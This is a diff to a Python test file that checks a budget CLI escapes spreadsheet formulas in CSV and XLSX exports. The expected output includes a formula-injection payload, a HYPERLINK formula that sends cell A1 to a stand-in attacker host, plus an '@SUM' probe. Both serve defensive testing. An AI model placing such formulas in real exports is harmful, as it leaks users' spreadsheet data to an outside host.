@@ -33,7 +33,7 @@ def test_csv_cells_start_with_an_apostrophe(cli):
     assert result.code == 0, result
     lines = result.out.lstrip("\ufeff").split("\r\n")
     assert lines[1] == (
-        "kreis-muster;\"'=HYPERLINK(\"\"https://angreifer.example/?d=\"\"&A1;\"\"Details\"\")\";"
+        'kreis-muster;"\'=HYPERLINK(""https://angreifer.example/?d=""&A1;""Details"")";'
         "2023;12000,00;4528,13;7471,87;0,00;0,00"
     )
     assert lines[4] == "stadt-muster;'@SUM(1+1);2023;70000,00;0,00;70000,00;0,50;0,50"
@@ -44,6 +44,7 @@ def test_csv_cells_start_with_an_apostrophe(cli):
 
 def test_xlsx_cells_are_text_with_quote_prefix(cli, tmp_path):
     import openpyxl
+
     out = tmp_path / "budget.xlsx"
     result = cli("budget", PROJECT, "--format", "xlsx", "--output", out)
     assert result.code == 0, result
